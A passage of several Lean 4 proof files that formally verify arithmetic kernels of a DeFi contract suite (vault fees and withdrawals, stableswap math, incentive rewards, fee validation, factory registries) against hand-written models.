      · exact Or.inl (Or.inl (Or.inl (Or.inr (fun h2 => hn ⟨h1, h2⟩))))
      · exact Or.inl (Or.inl (Or.inl (Or.inl h1)))
    rw [this]
    rfl

/-- **`GetPaybackAmount`** (the query a borrower reads before repaying): the stretch of `get_payback_amount` between
    the configuration load and the response equals the model's `payback` — the loan amount plus the three fees of
    `fee` — for every valid configuration and `Uint128` amount; `Err` exactly when the sum leaves 128 bits. -/
theorem gen_vault_payback_amount_eq_model (cfg : K.VaultConfig) (amount : Nat)
    (hp : cfg.fees.protocol_fee.share < E18) (hf : cfg.fees.flash_loan_fee.share < E18)
    (hb : cfg.fees.burn_fee.share < E18) (hl : amount ≤ U128MAX) :
    K.vault_payback_amount cfg amount =
      (if amount + fee cfg.fees.protocol_fee.share amount + fee cfg.fees.flash_loan_fee.share amount
            + fee cfg.fees.burn_fee.share amount ≤ U128MAX
       then .ok (fee cfg.fees.protocol_fee.share amount, fee cfg.fees.flash_loan_fee.share amount,
                 fee cfg.fees.burn_fee.share amount,
                 amount + fee cfg.fees.protocol_fee.share amount + fee cfg.fees.flash_loan_fee.share amount
                   + fee cfg.fees.burn_fee.share amount)
       else .err) := by
  unfold K.vault_payback_amount
  have e1 := compute_narrow cfg.fees.protocol_fee amount hp hl
  have e2 := compute_narrow cfg.fees.flash_loan_fee amount hf hl
  have e3 := compute_narrow cfg.fees.burn_fee amount hb hl
  generalize fee cfg.fees.protocol_fee.share amount = p at *
  generalize fee cfg.fees.flash_loan_fee.share amount = f at *
  generalize fee cfg.fees.burn_fee.share amount = b at *
  rw [← Res.bind_assoc', e1, Res.bind_ok_s, ← Res.bind_assoc', e2, Res.bind_ok_s, ← Res.bind_assoc', e3,
    Res.bind_ok_s]
  unfold cadd
  by_cases h1 : amount + p ≤ U128MAX
  · rw [if_pos h1, Res.bind_ok_s]
    by_cases h2 : amount + p + f ≤ U128MAX
    · rw [if_pos h2, Res.bind_ok_s]
      by_cases h3 : amount + p + f + b ≤ U128MAX
      · rw [if_pos h3, Res.bind_ok_s, if_pos h3]; rfl
      · rw [if_neg h3, Res.bind_err_s, if_neg h3]
    · rw [if_neg h2, Res.bind_err_s, if_neg (fun h => h2 (by omega))]
  · rw [if_neg h1, Res.bind_err_s, if_neg (fun h => h1 (by omega))]

/-- the model's `payback` IS the code's payback amount, for a model state with a valid fee record -/
theorem payback_is_code_payback (s : St) (cfg : K.VaultConfig) (amount : Nat)
    (hp : cfg.fees.protocol_fee.share = s.fees.prot) (hf : cfg.fees.flash_loan_fee.share = s.fees.flash)
    (hb : cfg.fees.burn_fee.share = s.fees.burn) (hv : s.fees.valid = true) (hl : amount ≤ U128MAX)
    (hfit : payback s amount ≤ U128MAX) :
    K.vault_payback_amount cfg amount =
      .ok (fee s.fees.prot amount, fee s.fees.flash amount, fee s.fees.burn amount, payback s amount) := by
  unfold VFees.valid at hv
  simp only [Bool.and_eq_true, decide_eq_true_eq] at hv
  unfold payback at hfit
  rw [gen_vault_payback_amount_eq_model cfg amount (by omega) (by omega) (by omega) hl, hp, hf, hb, if_pos hfit]
  rfl

/-- **`Decimal::from_ratio(amount, total_share) * total_asset_amount`** of the vault's `withdraw`, closed form for ALL
    inputs: panics for an empty share supply, for a ratio above the `Decimal` range and for a product above 128 bits;
    otherwise the doubly floored `total · ⌊amount·10¹⁸ / supply⌋ / 10¹⁸`. -/
theorem gen_vault_withdraw_amount_eq_model (amount sup total : Nat) :
    K.vault_withdraw_amount amount sup total =
      (if sup = 0 then .panic
       else if amount * E18 / sup ≤ U128MAX then
         (if total * (amount * E18 / sup) / E18 ≤ U128MAX then .ok (total * (amount * E18 / sup) / E18) else .panic)
       else .panic) := by
  unfold K.vault_withdraw_amount dec128FromRatio mulRatioP u128MulDec
  by_cases h0 : sup = 0
  · rw [if_pos h0, if_pos h0]; rfl
  · rw [if_neg h0, if_neg h0]
    by_cases h1 : amount * E18 / sup ≤ U128MAX
    · rw [if_pos h1, if_pos h1, Res.bind_ok_s]
    · rw [if_neg h1, if_neg h1]; rfl

/-- the `Share` query computes the same expression as `withdraw` (ALL inputs) -/
theorem gen_vault_share_query_amount_eq_model (amount sup total : Nat) :
    K.vault_share_query_amount amount sup total = K.vault_withdraw_amount amount sup total := rfl

/-- **Tie to the state machine:** what the real `withdraw` pays for `lp ≤ supply` shares of a vault whose balance fits
    128 bits is the model's `shareOf` (no panic is reachable there). -/
theorem shareOf_is_code_withdraw_amount (s : St) (lp : Nat) (hs : s.sup ≠ 0) (hlp : lp ≤ s.sup)
    (hb : s.bal ≤ U128MAX) :
    K.vault_withdraw_amount lp s.sup (s.bal - s.pend) = .ok (shareOf s lp) := by
  have hr : lp * E18 / s.sup ≤ E18 := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm s.sup E18, Nat.mul_comm lp E18]
    exact Nat.mul_le_mul_left E18 hlp
  have h1 : lp * E18 / s.sup ≤ U128MAX := Nat.le_trans hr (by decide)
  have h2 : (s.bal - s.pend) * (lp * E18 / s.sup) / E18 ≤ s.bal - s.pend := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm E18 (s.bal - s.pend)]
    exact Nat.mul_le_mul_left _ hr
  rw [gen_vault_withdraw_amount_eq_model, if_neg hs, if_pos h1, if_pos (by omega)]
  rfl

/-- non-vacuity: a 0.1 % / 0.2 % / 0.05 % vault, balance 1 000 000 recorded, loan 500 000, repaid with 2 000 on top -/
example :
    K.vault_after_trade_settlement
      { flash_loan_enabled := true, deposit_enabled := true, withdraw_enabled := true,
        fees := { protocol_fee := { share := 1000000000000000 }, flash_loan_fee := { share := 2000000000000000 },
                  burn_fee := { share := 500000000000000 } } }
      1000000 500000 1002000 = .ok (500, 1000, 250, 1001750, 250) := by decide

example :
    K.vault_after_trade_settlement
      { flash_loan_enabled := true, deposit_enabled := true, withdraw_enabled := true,
        fees := { protocol_fee := { share := 1000000000000000 }, flash_loan_fee := { share := 2000000000000000 },
                  burn_fee := { share := 500000000000000 } } }
      1000000 500000 1001749 = .err := by decide

end WW.KernelsVault
