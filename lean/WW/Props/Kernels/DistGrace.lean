/-
  Regenerated kernel ↔ hand-written model, C09: `fee_distributor/src/helpers.rs::validate_grace_period`
  against the grace test that the distributor model's `updateGrace` (`WW/Model/Distributor.lean`, also the
  `grace` op of the fee-flow model) carries inline.
  `WW.Gen.K.validate_grace_period` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C09.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsEpochCfg
import WW.Model.Distributor
namespace WW.KernelsDistGrace
open WW WW.Gen WW.Distributor

/-- `UpdateConfig { grace_period }` of the model IS: owner test, then the regenerated
    `validate_grace_period`, then "not below the stored one" — for every configuration, state, sender and
    grace value (full equality of `Res St`). -/
theorem gen_validate_grace_period_eq_model (cfg : Cfg) (s : St) (sender g : Nat) :
    updateGrace cfg s sender g =
      if sender ≠ cfg.owner then .err
      else K.validate_grace_period g >>= fun _ =>
        if g < s.grace then .err else .ok { s with grace := g } := by
  unfold updateGrace K.validate_grace_period
  by_cases ho : sender ≠ cfg.owner
  · rw [if_pos ho, if_pos ho]
  rw [if_neg ho, if_neg ho]
  by_cases h : g < 1 ∨ g > 30
  · rw [if_pos h, if_pos (show g < 1 ∨ g > DISTRIBUTOR_MAX_GRACE_PERIOD from h), Res.bind_err_s, Res.bind_err_s]
  · rw [if_neg h, if_neg (show ¬ (g < 1 ∨ g > DISTRIBUTOR_MAX_GRACE_PERIOD) from h), Res.bind_ok_s, Res.bind_ok_s]

end WW.KernelsDistGrace
