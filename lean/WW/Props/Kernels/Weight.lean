/-
  Regenerated kernel ↔ hand-written model, C13: `incentive/src/weight.rs::calculate_weight`.
  `WW.Gen.K.calculate_weight` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C13.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
namespace WW.KernelsWeight
open WW WW.Gen

/-- The definition regenerated from `calculate_weight` equals the model `calcWeight` on ALL inputs
    (no range hypothesis: both sides are total on `Nat`; the Rust argument types `u64` and `Uint128`
    are sub-ranges), including which of `Err` / panic it fails with. -/
theorem gen_calculate_weight_eq_model (d amt : Nat) :
    K.calculate_weight d amt = calcWeight d amt := by
  unfold K.calculate_weight calcWeight
  simp only [unwrapPanic_fromAtomics_zero, dec256PowC_two, narrowTo_128, Res.bind_assoc', ppow_10_18,
    dec256MulC_eq_dmulC, dec256DivC_eq_ddivC, Res.bind_ok_s, ite_not_err_eq_guardErr, Bool.decide_and,
    INCENTIVE_WEIGHT_MIN_DURATION, INCENTIVE_WEIGHT_MAX_DURATION, INCENTIVE_WEIGHT_SQ_COEFF,
    INCENTIVE_WEIGHT_SQ_DENOM, INCENTIVE_WEIGHT_LIN_COEFF, INCENTIVE_WEIGHT_LIN_DENOM,
    INCENTIVE_WEIGHT_CONST_NUM, INCENTIVE_WEIGHT_CONST_DEN] <;> rfl

end WW.KernelsWeight
