/-
  Regenerated kernels ↔ hand-written model, C03: the Decimal256 swap path of the two-asset stableswap pair —
  `terraswap_pair/src/math.rs` (`Decimal256Helper::{decimal_with_precision, checked_multiply_ratio,
  to_uint256_with_precision}`) and `terraswap_pair/src/helpers.rs` `calculate_stableswap_d` (32-round Newton
  loop with `return` exits and the `try_fold` over `[offer_pool, ask_pool]`), `calculate_stableswap_y`
  (32-round loop with `return` exits), and the `PairType::StableSwap { amp }` arm of `compute_swap`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C03.  Theorems only (one adapter definition).
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSwap
import WW.Proofs.KernelsStable2Swap
namespace WW.KernelsStable2Swap
open WW WW.Gen

/-- `Decimal256::decimal_with_precision(value, precision)` regenerated = the primitive `dec256WithPrecision`
    the model uses, for ALL inputs -/
theorem gen_decimal_with_precision_eq_model (v p : Nat) :
    K.Decimal256Helper_decimal_with_precision v p = dec256WithPrecision v p := by
  unfold K.Decimal256Helper_decimal_with_precision dec256FromAtomics
  rfl

/-- `Decimal256::checked_multiply_ratio(self, numerator, denominator)` regenerated = `mulRatioC` at 256 bits
    on the atomics, for ALL inputs -/
theorem gen_checked_multiply_ratio_eq_model (a n d : Nat) :
    K.Decimal256Helper_checked_multiply_ratio a n d = mulRatioC U256MAX a n d := by
  unfold K.Decimal256Helper_checked_multiply_ratio
  rw [Res.bind_ok_right]

/-- `Decimal256::to_uint256_with_precision(self, precision)` regenerated = the primitive
    `dec256ToUintPrecision` the model uses (panic when `precision > 18`), for ALL inputs -/
theorem gen_to_uint256_with_precision_eq_model (v p : Nat) :
    K.Decimal256Helper_to_uint256_with_precision v p = dec256ToUintPrecision v p := by
  unfold K.Decimal256Helper_to_uint256_with_precision
  exact toUintPrecision_steps v p

/-- the `for _ in 0..NEWTON_ITERATIONS` loop of `calculate_stableswap_d` (exits by `return`, `ConvergeError`
    after the last round), for every number of rounds left and every state -/
theorem gen_calculate_stableswap_d_loop_eq_model (op ap prec sum ann : Nat) :
    ∀ fuel cur, K.calculate_stableswap_d_loop1 op ap prec SS_N_DEC sum ann fuel cur
      = ssDLoop fuel op ap ann sum prec cur := by
  intro fuel
  induction fuel with
  | zero => intro cur; unfold K.calculate_stableswap_d_loop1 ssDLoop; rfl
  | succ n ih =>
    intro cur
    unfold K.calculate_stableswap_d_loop1 ssDLoop ssDStep
    simp only [gen_decimal_with_precision_eq_model, gen_checked_multiply_ratio_eq_model, ih,
      Res.bind_assoc', Res.pure_eq] <;> rfl

/-- `calculate_stableswap_d` regenerated = the model's `ssD`, for ALL inputs -/
theorem gen_calculate_stableswap_d_eq_model (op ap amp prec : Nat) :
    K.calculate_stableswap_d op ap amp prec = ssD op ap amp prec := by
  unfold K.calculate_stableswap_d ssD PAIR_NEWTON_ITERATIONS SS_N PAIR_N_COINS
  simp only [dec256FromRatio_2_1, Res.bind_ok_s, gen_calculate_stableswap_d_loop_eq_model, Res.pure_eq] <;> rfl

/-- the `for _ in 0..NEWTON_ITERATIONS` loop of `calculate_stableswap_y` (exits by `return y.try_into()`,
    `ConvergeError` after the last round), for every number of rounds left and every state -/
theorem gen_calculate_stableswap_y_loop_eq_model (d c b : Nat) :
    ∀ fuel y, K.calculate_stableswap_y_loop1 d c b fuel y = ssYLoop fuel b c d y := by
  intro fuel
  induction fuel with
  | zero => intro y; unfold K.calculate_stableswap_y_loop1 ssYLoop; rfl
  | succ n ih =>
    intro y
    unfold K.calculate_stableswap_y_loop1 ssYLoop ssYStep
    simp only [ih, narrowTo_128, ssY_tail, Res.bind_assoc'] <;> rfl

/-- the model's encoding of `StableSwapDirection`: `0` is `Simulate`, anything else `ReverseSimulate` -/
def dirOfNat (dir : Nat) : K.StableSwapDirection :=
  if dir = 0 then K.StableSwapDirection.Simulate else K.StableSwapDirection.ReverseSimulate

/-- `calculate_stableswap_y` regenerated = the model's `ssY`, for ALL inputs (every direction code of the
    model; both variants of the enum are reached: `dirOfNat 0`, `dirOfNat 1`) -/
theorem gen_calculate_stableswap_y_eq_model (op ap off amp prec dir : Nat) :
    K.calculate_stableswap_y op ap off amp prec (dirOfNat dir) = ssY op ap off amp prec dir := by
  unfold K.calculate_stableswap_y ssY PAIR_NEWTON_ITERATIONS SS_N PAIR_N_COINS dirOfNat
  by_cases h : dir = 0
  · simp only [if_pos h, gen_to_uint256_with_precision_eq_model, gen_calculate_stableswap_d_eq_model,
      gen_calculate_stableswap_y_loop_eq_model] <;> rfl
  · simp only [if_neg h, gen_to_uint256_with_precision_eq_model, gen_calculate_stableswap_d_eq_model,
      gen_calculate_stableswap_y_loop_eq_model] <;> rfl

/-- the `Simulate` call of the swap arm -/
theorem gen_calculate_stableswap_y_Simulate (op ap off amp prec : Nat) :
    K.calculate_stableswap_y op ap off amp prec K.StableSwapDirection.Simulate = ssY op ap off amp prec 0 :=
  gen_calculate_stableswap_y_eq_model op ap off amp prec 0

/-- the `ReverseSimulate` direction (used by `compute_offer_amount`, which is not a kernel) -/
theorem gen_calculate_stableswap_y_ReverseSimulate (op ap off amp prec : Nat) :
    K.calculate_stableswap_y op ap off amp prec K.StableSwapDirection.ReverseSimulate = ssY op ap off amp prec 1 :=
  gen_calculate_stableswap_y_eq_model op ap off amp prec 1

/-- every value of the generated enum is the image of a direction code -/
theorem dirOfNat_surjective (d : K.StableSwapDirection) : ∃ n, dirOfNat n = d := by
  cases d
  · exact ⟨0, rfl⟩
  · exact ⟨1, rfl⟩

/-- The definition regenerated from the `PairType::StableSwap { amp }` arm of `compute_swap` (default
    features; `amp` is the variant's field) equals the model `ssSwap` on ALL inputs (every `Nat`, every fee
    record, any precisions), including which of `Err` / panic it fails with. -/
theorem gen_compute_swap_StableSwap_eq_model (op ap off : Nat) (fees : K.PoolFee) (amp p₀ p₁ : Nat) :
    K.compute_swap_StableSwap op ap off fees amp p₀ p₁
      = (ssSwap op ap off (Fees.ofGen fees) amp p₀ p₁).mapTo SwapComp.toGen := by
  unfold K.compute_swap_StableSwap ssSwap Res.mapTo
  simp only [gen_calculate_stableswap_y_Simulate, K_Fee_compute_eq, narrowTo_128, gen_decimal_with_precision_eq_model,
    gen_to_uint256_with_precision_eq_model, Res.bind_assoc', Res.bind_ok_s, Res.pure_eq] <;> rfl

end WW.KernelsStable2Swap
