/-
  Regenerated FRAGMENT kernels ↔ hand-written model, C12 / C13: the two pieces of arithmetic that the incentive's
  `claim::claim` (`incentive/src/claim.rs`) carries INLINE in its loop over epochs —
  the emission of an epoch `flow_asset_amount.saturating_sub(emitted_tokens).checked_div(Uint128::from(end − epoch))?`
  against `WW.Inc.emissionStep`, and the user's reward
  `(Uint256::from_uint128(emission) * Decimal256::from_ratio(user_weight, global_weight)).try_into()?` with its sanity check
  (`reward > emission || reward + claimed > funded` → `InvalidReward`) against `WW.Inc.rewardOf` / the check of
  `WW.Inc.claimPay` (`WW/Model/Incentive.lean`), on which `C12.claims_le_funded` and `C13.shares_le_one` rest.
  `WW.Gen.K.incentive_emission_per_epoch` / `incentive_user_reward` are regenerated from the handler's source lines on every
  check run by `tools/rs2lean.py` (fragment kernels); the theorems below are proof obligations of C12 and C13.
  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Incentive
namespace WW.KernelsIncClaim
open WW WW.Gen WW.Inc

/-- **`emissionStep` runs on the code's emission**, for EVERY flow, emitted-tokens map and epoch: the regenerated
    statement (the `u64` difference `end − epoch` panics when the epoch is past the end, a zero difference is
    `DivideByZero`) followed by the bookkeeping of the emitted-tokens map. -/
theorem gen_incentive_emission_per_epoch_eq_model (f : Flow) (emitted : List (Nat × Nat)) (ep : Nat) :
    emissionStep f emitted ep =
      (K.incentive_emission_per_epoch (f.amountAt ep) (if emitted.isEmpty then 0 else aget emitted (ep - 1))
          (f.endAt ep) ep).bind fun emission =>
        match alook emitted ep with
        | some _ => .ok (emission, emitted)
        | none =>
          match cadd U128MAX emission (if emitted.isEmpty then 0 else aget emitted (ep - 1)) with
          | .ok t => .ok (emission, aset emitted ep t)
          | .err => .err
          | .panic => .panic := by
  unfold emissionStep K.incentive_emission_per_epoch
  dsimp only
  cases psub (f.endAt ep) ep with
  | err => rfl
  | panic => rfl
  | ok d =>
    simp only [Res.bind_ok_s]
    cases cdiv (f.amountAt ep - if emitted.isEmpty then 0 else aget emitted (ep - 1)) d with
    | err => rfl
    | panic => rfl
    | ok e => rfl

/-- **The reward stretch equals the model's `rewardOf` followed by the sanity check of `claimPay`**, for ALL weights,
    emissions, claimed and funded amounts. (The code tests `reward > emission` BEFORE it adds the claimed amount, the
    model adds first; both refuse exactly the same inputs and both with `Err`.) -/
theorem gen_incentive_user_reward_eq_model (uw g emission claimed funded : Nat) :
    K.incentive_user_reward uw g emission claimed funded =
      (rewardOf emission uw g).bind fun r =>
        (cadd U128MAX r claimed).bind fun tot =>
          if r > emission || tot > funded then .err else .ok r := by
  unfold K.incentive_user_reward rewardOf
  cases dec256FromRatio uw g with
  | err => rfl
  | panic => rfl
  | ok share =>
    simp only [Res.bind_ok_s]
    cases u256MulDec emission share with
    | err => rfl
    | panic => rfl
    | ok r256 =>
      simp only [Res.bind_ok_s]
      unfold to128 narrowTo cadd
      by_cases h : r256 ≤ U128MAX <;> by_cases h1 : r256 > emission <;> by_cases h2 : r256 + claimed ≤ U128MAX <;>
        by_cases h3 : r256 + claimed > funded <;>
        simp [h, h1, h2, h3, Res.bind]

/-- with a weight share of at most one the reward never exceeds the epoch's emission -/
theorem reward_le_emission (uw g emission claimed funded r : Nat)
    (h : K.incentive_user_reward uw g emission claimed funded = .ok r) : r ≤ emission ∧ r + claimed ≤ funded := by
  rw [gen_incentive_user_reward_eq_model] at h
  cases hr : rewardOf emission uw g with
  | err => rw [hr] at h; cases h
  | panic => rw [hr] at h; cases h
  | ok r' =>
    rw [hr] at h
    show r ≤ emission ∧ r + claimed ≤ funded
    change ((cadd U128MAX r' claimed).bind fun tot => if r' > emission || tot > funded then Res.err else Res.ok r') = Res.ok r at h
    unfold cadd at h
    by_cases h2 : r' + claimed ≤ U128MAX
    · rw [if_pos h2] at h
      change (if r' > emission || r' + claimed > funded then Res.err else Res.ok r') = Res.ok r at h
      by_cases hc : (r' > emission || r' + claimed > funded) = true
      · rw [if_pos hc] at h; cases h
      · rw [if_neg hc] at h
        cases h
        simp only [Bool.or_eq_true, decide_eq_true_eq, not_or, Nat.not_lt] at hc
        exact ⟨by omega, by omega⟩
    · rw [if_neg h2] at h; cases h

/-- non-vacuity: 1 000 000 still to emit over 4 epochs; a 30 % weight share of that emission -/
example : K.incentive_emission_per_epoch 1500000 500000 14 10 = .ok 250000 := by decide
example : K.incentive_user_reward 300 1000 250000 0 1500000 = .ok 75000 := by decide

end WW.KernelsIncClaim
