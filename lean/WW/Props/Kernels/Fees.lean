/-
  Regenerated kernels ↔ hand-written model, C18 (and the fee domain of C02):
  `white-whale-std/src/fee.rs` `Fee::is_valid`;
  `white-whale-std/src/pool_network/pair.rs` `PoolFee::is_valid` with `PoolFee::aggregate`
  (`VaultFee::is_valid` and the 3pool's `PoolFee::is_valid` are in `FeesOther.lean`: C18 only).
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C18 (and C02).  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsFees
namespace WW.KernelsFees
open WW WW.Gen WW.Config

/-- `Fee::is_valid` = the model's `feeIsValid`, for every share (any `Nat`) -/
theorem gen_Fee_is_valid_eq_model (fee : K.Fee) : K.Fee_is_valid fee = feeIsValid fee.share := by
  rw [K_Fee_is_valid_eq]; rfl

/-- pair `PoolFee::is_valid` (through `PoolFee::aggregate`) = `fees3IsValid` on (protocol, swap, burn) -/
theorem gen_PoolFee_is_valid_eq_model (p : K.PoolFee) :
    K.PoolFee_is_valid p = fees3IsValid (Fees3.ofPool p) := by
  unfold K.PoolFee_is_valid K.PoolFee_aggregate
  simp only [K_Fee_is_valid_eq, percent_100, Res.bind_assoc', Res.bind_ok_s]
  exact fees3_shape _ _ _

end WW.KernelsFees
