/-
  Regenerated FRAGMENT kernel ↔ hand-written model, C10: the take-rate split that the fee collector's aggregation
  `reply` (`fee_collector/src/contract.rs`) carries INLINE —
  `token_balance.checked_mul_floor(config.take_rate).unwrap_or(Uint128::zero())` and
  `token_balance.saturating_sub(take_rate_fee)` — against `WW.Collector.takeOf` (`WW/Model/Collector.lean`), on which
  the take-rate clauses of C10 (`take_exact`, conservation) rest.
  `WW.Gen.K.collector_take_rate_split` is regenerated from the handler's source lines on every check run by
  `tools/rs2lean.py` (fragment kernel); the theorems below are proof obligations of C10.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Collector
namespace WW.KernelsTakeRate
open WW WW.Gen WW.Collector

/-- **The take-rate stretch of the collector's `reply`, closed form for ALL balances and rates**: the fee is
    `⌊balance · rate / 10¹⁸⌋` when that fits 128 bits and ZERO otherwise (the `unwrap_or` fallback), what goes on to the
    distributor is the balance minus the fee (saturating); the stretch never fails. -/
theorem gen_collector_take_rate_split_closed (tb rate : Nat) :
    K.collector_take_rate_split tb rate =
      .ok ((if tb * rate / E18 ≤ U128MAX then tb * rate / E18 else 0),
           tb - (if tb * rate / E18 ≤ U128MAX then tb * rate / E18 else 0)) := by
  unfold K.collector_take_rate_split mulRatioC
  have hE : ¬ (E18 = 0) := by decide
  rw [if_neg hE]
  by_cases h : tb * rate / E18 ≤ U128MAX
  · rw [if_pos h, if_pos h]; rfl
  · rw [if_neg h, if_neg h]; rfl

/-- **… and it is the model's `takeOf`** whenever the collector's take rate applies (active, non-zero, DAO address set —
    the guard the handler tests right before the stretch). -/
theorem gen_collector_take_rate_split_eq_model (s : St) (tb : Nat)
    (happ : s.active = true ∧ s.rate ≠ 0 ∧ s.daoSet = true) :
    K.collector_take_rate_split tb s.rate = .ok (takeOf s tb, tb - takeOf s tb) := by
  rw [gen_collector_take_rate_split_closed]
  unfold takeOf
  rw [if_pos happ]

/-- for a take rate below one (the C18 invariant) and a 128-bit balance the fallback is never taken and the fee never
    exceeds the balance -/
theorem take_rate_fee_exact (tb rate : Nat) (hr : rate < E18) (hb : tb ≤ U128MAX) :
    K.collector_take_rate_split tb rate = .ok (tb * rate / E18, tb - tb * rate / E18) ∧ tb * rate / E18 ≤ tb := by
  have hle : tb * rate / E18 ≤ tb := by
    apply Nat.div_le_of_le_mul
    rw [Nat.mul_comm E18 tb]
    exact Nat.mul_le_mul_left tb (Nat.le_of_lt hr)
  refine ⟨?_, hle⟩
  rw [gen_collector_take_rate_split_closed, if_pos (Nat.le_trans hle hb)]

/-- non-vacuity: 1.23456789 % of 10¹² -/
example : K.collector_take_rate_split 1000000000000 12345678900000000 = .ok (12345678900, 987654321100) := by decide

end WW.KernelsTakeRate
