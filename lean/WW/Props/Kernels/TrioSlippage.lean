/-
  Regenerated kernels ↔ the replicas the Trio state machine itself uses (C04; the C15 replicas of
  `WW/Model/Slippage.lean` are covered by `WW/Props/Kernels/Slippage.lean`):
  `stableswap_3pool/src/helpers.rs::assert_slippage_tolerance` ↔ `WW.Trio.assertSlippage`,
  `white-whale-std/src/pool_network/swap.rs::assert_max_spread` ↔ `WW.Trio.assertMaxSpread`.
  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsSlippage
namespace WW.KernelsTrioSlippage
open WW WW.Gen

/-- the 3pool's `assert_slippage_tolerance` regenerated = `Trio.assertSlippage`, for ALL inputs -/
theorem gen_trio_assert_slippage_tolerance_eq_Trio_model (tol : Option Nat) (deposits : Nat × Nat × Nat)
    (pools : K.Asset × K.Asset × K.Asset) (amount supply : Nat) :
    K.trio_assert_slippage_tolerance tol deposits pools amount supply
      = Trio.assertSlippage tol deposits.1 deposits.2.1 deposits.2.2
          pools.1.amount pools.2.1.amount pools.2.2.amount amount supply := by
  unfold K.trio_assert_slippage_tolerance Trio.assertSlippage
  cases tol with
  | none => simp only [Res.bind_unit_ok]
  | some t =>
    simp only [Res.bind_unit_ok]
    by_cases ht : t > E18
    · rw [if_pos ht, if_pos ht, Res.bind_err_s]
    · rw [if_neg ht, if_neg ht, Res.bind_ok_s]
      unfold psub dec256Mul
      rw [if_pos (by omega : t ≤ E18), Res.bind_ok_s]

/-- `assert_max_spread` regenerated = `Trio.assertMaxSpread`, for ALL inputs -/
theorem gen_assert_max_spread_eq_Trio_model (belief maxSpread : Option Nat) (offer ret spread : Nat) :
    K.assert_max_spread belief maxSpread offer ret spread
      = Trio.assertMaxSpread belief maxSpread offer ret spread := by
  unfold K.assert_max_spread Trio.assertMaxSpread
  simp only [Res.bind_ok_s, show E18 / 100 = 10000000000000000 from by decide,
    show E18 / 2 = 500000000000000000 from by decide]
  cases belief with
  | none => simp only [Res.bind_assoc', Res.bind_unit_ok] <;> rfl
  | some p =>
    simp only [Res.bind_unit_ok]
    unfold decInv
    by_cases hp : p = 0
    · rw [if_pos hp, if_pos hp]
      simp only [optErr_none, Res.bind_err_s]
    · rw [if_neg hp, if_neg hp]
      simp only [optErr_some, Res.bind_ok_s, and_shortcircuit, decide_eq_true_eq, Bool.false_eq_true,
        if_false] <;> rfl

end WW.KernelsTrioSlippage
