/-
  C19 — Factories and router: one child per asset set; the registry tells the truth.
  Property theorems only (helpers: WW/Proofs/Factory.lean; model: WW/Model/Factory.lean, tied to the
  real pool factory / vault factory / incentive factory / router by the `registry` engine).

  All theorems quantify over every asset universe `cfg` (arbitrary byte strings), every state reachable
  from the empty factories by any list of operations (`reach cfg St.init ops`), every argument order.
-/
import WW.Proofs.FactoryChildren
namespace WW.C19
open WW WW.Factory

/-! ### keys do not depend on the order in which the assets are given -/

/-- clause "regardless of the order in which assets are given", any number of assets -/
theorem key_perm_invariant_list {l₁ l₂ : List Bytes} (h : l₁.Perm l₂) : concatKey l₁ = concatKey l₂ :=
  concatKey_perm h

/-- `pair_key` is invariant under both orders, `trio_key` under all six -/
theorem key_perm_invariant (a b c : Bytes) :
    pairKey a b = pairKey b a ∧
    trioKey a b c = trioKey a c b ∧ trioKey a b c = trioKey b a c ∧ trioKey a b c = trioKey b c a ∧
    trioKey a b c = trioKey c a b ∧ trioKey a b c = trioKey c b a := by
  refine ⟨concatKey_perm (List.Perm.swap b a []), ?_, ?_, ?_, ?_, ?_⟩
  · exact concatKey_perm (List.Perm.cons a (List.Perm.swap c b []))
  · exact concatKey_perm (List.Perm.swap b a [c])
  · exact concatKey_perm ((List.Perm.swap b a [c]).trans (List.Perm.cons b (List.Perm.swap c a [])))
  · exact concatKey_perm ((List.Perm.cons a (List.Perm.swap c b [])).trans (List.Perm.swap c a [b]))
  · exact concatKey_perm (((List.Perm.cons a (List.Perm.swap c b [])).trans (List.Perm.swap c a [b])).trans
      (List.Perm.cons c (List.Perm.swap b a [])))

/-- the factory's key of a list of universe assets is the same for every permutation of the list -/
theorem keyOf_perm_invariant (cfg : Cfg) {l₁ l₂ : List Nat} (h : l₁.Perm l₂) {k : Bytes}
    (hk : keyOf cfg l₁ = .ok k) : keyOf cfg l₂ = .ok k :=
  keyOf_perm cfg h hk

/-! ### at most one entry per key / per unordered asset set, in every reachable state -/

/-- in every reachable state the keys of every registry are strictly increasing, hence distinct -/
theorem at_most_one (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (s.pairs.reg.map Prod.fst).Nodup ∧ (s.trios.reg.map Prod.fst).Nodup ∧
    (s.vaults.reg.map Prod.fst).Nodup ∧ (s.incs.reg.map Prod.fst).Nodup ∧
    (s.routes.map Prod.fst).Nodup := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
  exact ⟨hi.pairs.sorted.nodup, hi.trios.sorted.nodup, hi.vaults.sorted.nodup, hi.incs.sorted.nodup,
    hi.routes.nodup⟩

/-- two listed pairs (trios) whose asset lists are permutations of one another are one and the same
    entry: at most one pair per unordered pair of assets, one trio per unordered triple -/
theorem at_most_one_per_asset_set (cfg : Cfg) (ops : List Op) :
    let s := reach cfg St.init ops
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.pairs.reg → (k₂, e₂) ∈ s.pairs.reg → e₁.assets.Perm e₂.assets →
        k₁ = k₂ ∧ e₁ = e₂) ∧
    (∀ k₁ e₁ k₂ e₂, (k₁, e₁) ∈ s.trios.reg → (k₂, e₂) ∈ s.trios.reg → e₁.assets.Perm e₂.assets →
        k₁ = k₂ ∧ e₁ = e₂) := by
  intro s
  have hi : Inv cfg s := (Inv.init cfg).reach ops
